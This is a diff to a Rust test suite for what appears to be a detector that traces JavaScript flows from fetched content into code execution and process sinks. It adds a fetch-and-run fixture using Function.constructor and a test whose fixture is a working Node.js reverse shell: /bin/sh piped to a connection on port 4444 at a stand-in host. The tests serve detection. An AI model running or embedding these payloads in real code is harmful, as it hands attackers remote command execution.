@@ -85,6 +85,11 @@ const ANSWERED: &[(&str, SinkKind, &str)] = &[
         "fetch('https://collector.invalid').then(r => r.text()).then(s => { [s].map(eval) })",
     ),
     (
+        "makes a function by the constructor of their maker",
+        DynamicCode,
+        "fetch('https://collector.invalid').then(r => r.text()).then(t => new (Function.constructor)('require', t)(require))",
+    ),
+    (
         "hands it to a promise",
         DynamicCode,
         "fetch('https://collector.invalid').then(r => r.text()).then([].at.constructor).then(f => f())",
@@ -146,6 +151,27 @@ fn answers_are_followed_however_they_arrive() {
             facts.flows
         );
     }
+}
+
+#[test]
+fn a_shell_that_an_import_joins_to_a_connection_is_followed() {
+    let code = "const net = require('net'), { spawn } = require('child_process'); const sh = spawn('/bin/sh', []);
+        const c = net.connect(4444, 'collector.invalid', () => { c.pipe(sh.stdin); sh.stdout.pipe(c) })";
+    let facts = run(&[("index.js", code)], &[], &[(Surface::Import, "index.js")]);
+    let mut flows = facts.flows.iter();
+    assert!(
+        flows.any(|flow| flow.source == Fetched && flow.sink == Process),
+        "{:#?}",
+        facts.flows
+    );
+    // Near miss: it is given what it runs.
+    let code = code.replace("[]", "['-c', 'ls']");
+    let facts = run(
+        &[("index.js", &code)],
+        &[],
+        &[(Surface::Import, "index.js")],
+    );
+    assert_eq!(facts.flows, []);
 }
 
 #[test]
